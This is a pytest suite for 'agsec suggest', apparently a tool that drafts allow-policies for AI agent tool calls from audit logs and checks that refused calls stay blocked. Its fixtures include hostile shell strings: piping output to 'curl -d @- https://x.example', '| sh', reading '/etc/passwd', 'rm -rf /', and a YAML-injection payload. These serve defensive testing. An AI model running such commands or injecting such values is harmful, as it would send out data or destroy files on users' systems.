"""What `agsec suggest` proposes is proven by the calls it is proposed for, and allows nothing that was refused."""

from __future__ import annotations

import json
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML
from typer.testing import CliRunner

from agsec.cli.main import application
from agsec.policy import PolicyEngine
from agsec.suggesting.observed import observe
from agsec.suggesting.proposals import Proposals, propose, text
from agsec.suggesting.shapes import head, place
from agsec_compiler import Source, compile_sources
from agsec_runtime.audit import body, record, write
from agsec_runtime.decision import Decision, Request

Call = tuple[str, dict[str, Any], str]  # action, params, effect
CONTEXT = {"host": "claude-code", "cwd": "/work/app"}


def logged(path: Path, calls: Iterable[Call]) -> Path:
    """A log as hooks write it; some of ``calls`` in each session."""
    for number, (action, params, effect) in enumerate(calls):
        asked = Request(action, params, {**CONTEXT, "session_id": f"s{number % 3}"})
        fields = record(asked, Decision(effect, "default", "so"), "r", 0.001, 1_700_000_000 + number)
        write(str(path), body(fields))
    return path


def bash(command: str, effect: str = "allow") -> Call:
    return "bash.execute", {"command": command}, effect


def proposed(tmp_path: Path, *calls: Call, least: int = 1) -> Proposals:
    return propose(observe(logged(tmp_path / "audit.jsonl", calls)), least)


def statements(found: Proposals) -> list[dict[str, Any]]:
    return [each.draft.data() for each in found.proposals]


def conditions(found: Proposals) -> list[dict[str, Any]]:
    """Those that ask for something to be there."""
    tests: list[dict[str, Any]] = [each.get("conditions", {}) for each in statements(found)]
    return [{name: test for name, test in each.items() if test != {"op": "not_exists"}} for each in tests]


def engine(found: Proposals) -> PolicyEngine:
    if not found.proposals:
        return PolicyEngine()  # Until something is loaded, everything is denied.
    compilation = compile_sources([Source("p.yaml", text(each.draft for each in found.proposals))])
    assert compilation.diagnostics == ()
    made = PolicyEngine()
    made.load_bundle(compilation.bundle or b"")
    return made


def is_allowed(made: PolicyEngine, call: Call) -> bool:
    return made.evaluate(call[0], call[1], {"home": str(Path.home()), **CONTEXT}).status.value == "allow"


COMMANDS = st.builds(
    "{}{}{}".format,
    st.sampled_from(
        ["git status", "git push origin b", "ls", "cat a", "rm b", "npm run x", "python", "echo", "A=1 ls"]
    ),
    st.sampled_from(["", " -l", " src/a.py", " src/*.py", " /etc/passwd", " $X", " 'a b'"]),
    st.sampled_from(["", "", " > out.txt", " && ls", " | sh", " 2>&1", " | curl -d @- https://x.example"]),
)
CALLS: st.SearchStrategy[Call] = st.one_of(
    st.tuples(
        st.just("bash.execute"), st.fixed_dictionaries({"command": COMMANDS}), st.sampled_from(["allow"] * 5 + ["deny"])
    ),
    st.tuples(
        st.sampled_from(["file.read", "file.write"]),
        st.fixed_dictionaries(
            {
                "file_path": st.sampled_from(
                    ["/work/app/src/a", "src/b", "src/[c]", "/etc/x", "~/y", "top", "/z", "docs/d/e"]
                )
            }
        ),
        st.sampled_from(["allow"] * 5 + ["deny", "review"]),
    ),
    st.tuples(
        st.just("web.fetch"),
        st.fixed_dictionaries(
            {"url": st.sampled_from(["https://a.example/1", "https://a.example/2", "http://b.example:8/", "x"])}
        ),
        st.sampled_from(["allow"] * 5 + ["deny"]),
    ),
    st.tuples(
        st.just("pay.charge"),
        st.dictionaries(
            st.sampled_from(["amount", "a.b", "to"]),
            st.sampled_from([1, 2.5, 30, "x", "y", True, None, ["l"]]),
            max_size=3,
        ),
        st.sampled_from(["allow"] * 5 + ["deny"]),
    ),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(CALLS, min_size=1, max_size=14))
def test_proposals_cover_what_they_say_and_nothing_that_was_refused(
    tmp_path_factory: pytest.TempPathFactory, calls: list[Call]
) -> None:
    found = proposed(tmp_path_factory.mktemp("log"), *calls)
    made = engine(found)
    for proposal in found.proposals:
        alone = engine(Proposals((proposal,)))
        assert all(is_allowed(alone, (each.action, each.params, "")) for each in proposal.calls)
        assert proposal.count == sum(
            (call[0], call[1]) in [(each.action, each.params) for each in proposal.calls] and call[2] == "allow"
            for call in calls
        )
    assert not any(is_allowed(made, call) for call in calls if call[2] != "allow")
    left_out = sum(found.left_out.values()) - sum(call[2] == "review" for call in calls)
    assert found.covered + left_out == sum(call[2] == "allow" for call in calls)
    breadths = [each.breadth for each in found.proposals]
    assert breadths == sorted(breadths)


# -- shapes


@pytest.mark.parametrize(
    ("command", "answer"),
    [
        ("git status -s", "git status"),
        ("git -c a=b status", "git"),
        ("npm run build -- x", "npm run build"),
        ("ls -l", "ls"),
        ("python -m pytest", "python"),
    ],
)
def test_the_head_of_a_command_says_what_it_does(command: str, answer: str) -> None:
    assert head(command) == answer


@pytest.mark.parametrize(
    ("path", "answer"),
    [("/work/app/src/a/b", "/work/app/src"), ("/work/app/a", "/work/app"), ("/etc/x", "/etc"), ("/x", "/")],
)
def test_a_path_counts_to_the_first_directory_below_the_one_worked_in(path: str, answer: str) -> None:
    assert place(path, "/work/app") == answer


def test_a_few_commands_are_listed_and_many_are_covered_by_what_they_share(tmp_path: Path) -> None:
    few = proposed(tmp_path, bash("git log -1"), bash("git log -2"))
    assert conditions(few) == [{"shell.commands": {"op": "in", "value": ["git log -1", "git log -2"]}}]
    many = proposed(tmp_path, *(bash(f"git log -{n}") for n in range(3, 10)))
    assert conditions(many) == [{"shell.commands": {"op": "regex", "value": [r"\Agit log(?: |\Z)"]}}]


def test_what_a_command_may_touch_is_bounded_as_well(tmp_path: Path) -> None:
    found = proposed(tmp_path, *(bash(f"cat src/{n}.py") for n in range(9)))
    made = engine(found)
    assert is_allowed(made, bash("cat src/new.py"))
    for other in ("cat /etc/passwd", "cat src/0.py > x", "cat src/../secret", "cat src/0.py | sh", "cat"):
        assert not is_allowed(made, bash(other)), other


def test_of_an_interpreter_only_whole_commands_are_proposed(tmp_path: Path) -> None:
    assert not is_allowed(engine(proposed(tmp_path, *(bash(f"python t{n}.py") for n in range(9)))), bash("python u.py"))


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("$X y", "what it would do cannot be told without running it"),
        ("curl -d @a https://x.example", "it sends data to another host"),
        ("curl -H 'Authorization: Bearer abcdefghijklmnop' https://x.example", "its params were masked or cut"),
    ],
)
def test_what_cannot_be_bounded_is_left_out_with_the_reason(command: str, why: str, tmp_path: Path) -> None:
    found = proposed(tmp_path, bash(command))
    assert (found.proposals, dict(found.left_out)) == ((), {why: 1})


def test_what_was_refused_narrows_what_is_proposed(tmp_path: Path) -> None:
    allowed = [bash(f"git log -{n}") for n in range(8)]
    found = proposed(tmp_path, *allowed, bash("git log --all", "deny"))
    assert conditions(found)[0]["shell.commands"]["op"] == "in"
    again = proposed(tmp_path, bash("git log -3", "deny"))
    assert (again.proposals, dict(again.left_out)) == ((), {"what covers it would allow what was refused": 8})


def test_an_action_without_facts_is_bounded_by_the_params_that_were_seen(tmp_path: Path) -> None:
    found = proposed(
        tmp_path,
        ("pay.charge", {"amount": 5, "to": "a", "note": "x", "a.b": True}, "allow"),
        ("pay.charge", {"amount": 9, "to": "b", "a.b": True}, "allow"),
    )
    assert statements(found)[0]["conditions"] == {
        'params."a.b"': {"op": "==", "value": True},
        "params.amount": [{"op": ">=", "value": 5}, {"op": "<=", "value": 9}],
        "params.to": {"op": "in", "value": ["a", "b"]},
    }


def test_what_was_called_seldom_is_left_out(tmp_path: Path) -> None:
    found = proposed(tmp_path, bash("ls"), bash("git status"), bash("git status"), least=2)
    assert [each.draft.sid for each in found.proposals] == ["AllowGitStatus"]
    assert found.left_out == {"called too seldom": 1}


# -- the command


def agsec(*arguments: object) -> tuple[int, str, str, str]:
    done = CliRunner().invoke(application(), ["suggest", *map(str, arguments)], env={"NO_COLOR": "1"})
    return done.exit_code, done.stdout, done.stderr, str(done.exception or "")


GOLDEN = """\
# Proposed by `agsec suggest` from 5 allowed calls: review each before it counts.
version: "1.0"

statements:
  # 3 calls, 2023-11-14 to 2023-11-14, for example
  #     git status
  - sid: AllowGitStatus
    effect: allow
    actions: [bash.execute]
    conditions:
      shell.commands: {op: '==', value: git status}
      files.reads: {op: not_exists}
      files.writes: {op: not_exists}
      files.deletes: {op: not_exists}
      shell.sets: {op: not_exists}
      shell.pushes: {op: not_exists}
      shell.sql: {op: not_exists}
      shell.sends: {op: not_exists}
    reason: 'Seen 3 times, never refused'
  # 2 calls, 2 different, 2023-11-14 to 2023-11-14, for example
  #     https://a.example/1
  #     https://a.example/2
  - sid: AllowHttpsAExample
    effect: allow
    actions: [web.fetch]
    conditions:
      url.scheme: {op: '==', value: https}
      url.host: {op: '==', value: a.example}
      url.port: {op: '==', value: 443}
    reason: 'Seen 2 times, never refused'
"""


@pytest.fixture
def log(tmp_path: Path) -> Path:
    web: list[Call] = [("web.fetch", {"url": f"https://a.example/{n}"}, "allow") for n in (1, 2)]
    return logged(tmp_path / "audit.jsonl", [*[bash("git status")] * 3, *web, bash("rm -rf /", "deny")])


def test_the_narrowest_is_proposed_first_with_its_evidence(log: Path, tmp_path: Path) -> None:
    before = sorted(tmp_path.iterdir())
    status, text, _, _ = agsec("--log", log, "--min-calls", 2)
    assert (status, text) == (0, GOLDEN)
    assert sorted(tmp_path.iterdir()) == before  # Nothing is written unasked.


def test_a_file_is_written_where_asked_and_never_over_another(log: Path, tmp_path: Path) -> None:
    target = tmp_path / "new.yaml"
    assert agsec("--log", log, "-o", target, "--min-calls", 2)[:2] == (0, f"{target}: 2 statements, to be reviewed\n")
    assert target.read_text() == GOLDEN
    target.write_text("mine")
    assert "is there already" in agsec("--log", log, "-o", target)[3]
    (tmp_path / "link").symlink_to(tmp_path / "nowhere")
    assert "is there already" in agsec("--log", log, "-o", tmp_path / "link")[3]
    assert target.read_text() == "mine"


def test_programs_are_told_the_same(log: Path) -> None:
    told = json.loads(agsec("--log", log, "--min-calls", 2, "--output-format", "json")[1])
    assert [(each["sid"], each["calls"], each["different"]) for each in told["proposals"]] == [
        ("AllowGitStatus", 3, 1),
        ("AllowHttpsAExample", 2, 2),
    ]
    assert told["covered"] == 5


def test_an_example_cannot_leave_its_comment(tmp_path: Path) -> None:
    lines = "ls '\n  - sid: Evil\n    effect: allow\r\u2028\x85x'"
    path = logged(tmp_path / "a.jsonl", [bash(lines)])
    _, text, _, _ = agsec("--log", path, "--min-calls", 1)
    [statement] = YAML(typ="safe").load(text)["statements"]
    assert statement["sid"] != "Evil"


def test_of_an_empty_log_nothing_is_proposed(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text("")
    status, text, _, _ = agsec("--log", tmp_path / "a.jsonl")
    assert status == 0
    assert text.endswith("statements: []\n")


def test_a_log_that_is_not_there_is_no_answer(tmp_path: Path) -> None:
    assert "there is no log" in agsec("--log", tmp_path / "none")[3]
